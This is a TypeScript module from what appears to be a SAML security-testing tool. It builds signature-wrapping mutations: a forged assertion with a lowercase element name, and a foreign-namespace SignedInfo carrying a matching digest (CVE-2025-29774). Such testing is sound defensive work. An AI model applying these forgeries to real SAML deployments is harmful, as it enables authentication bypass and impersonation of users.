/** Elements that only some readers take for what they look like: by their letters, or by their local name. */

import type { Mutation } from '../protocol/types.ts';
import { findAll, insertAt, outerOf, rootOf, setAttribute } from '../protocol/xml-text.ts';
import { edit, first } from './elements.ts';
import { forgedAssertion, victimTwin, withVictimContent } from './victim.ts';

/** A forged element in SAML's own namespace whose name is that of an assertion in small letters. */
export function smallLetters(place: 'before' | 'behind'): Mutation {
  return {
    afterSigning: (xml, facts) => {
      const forged = forgedAssertion(facts, facts.newId())
        .replace(/^<((?:\w+:)?)A/, '<$1a')
        .replace(/A(\w+>)$/, 'a$1');
      const { start, end } = first(xml, 'Assertion');
      return insertAt(xml, place === 'before' ? start : end, forged);
    },
  };
}

/** Content of the victim; beside the genuine SignedInfo one of another namespace has the fitting digest (CVE-2025-29774). */
export function foreignSignedInfo(position: 'first' | 'last'): Mutation {
  return {
    afterSigning: (xml, facts) => {
      const twin = victimTwin(facts);
      const fitting = findAll(twin, 'SignedInfo').map((span) => foreign(outerOf(twin, span)));
      return edit(withVictimContent(xml, facts), 'SignedInfo', (genuine, index) => {
        const forged = fitting[index] ?? '';
        return position === 'first' ? forged + genuine : genuine + forged;
      });
    },
  };
}

/** The element with its prefix, or none, bound to a namespace that nobody knows. */
function foreign(element: string): string {
  const root = rootOf(element);
  if (root === undefined) return element;
  const [prefix, local] = root.name.split(':');
  return setAttribute(element, root, local === undefined ? 'xmlns' : `xmlns:${prefix ?? ''}`, 'urn:samlproof:foreign');
}
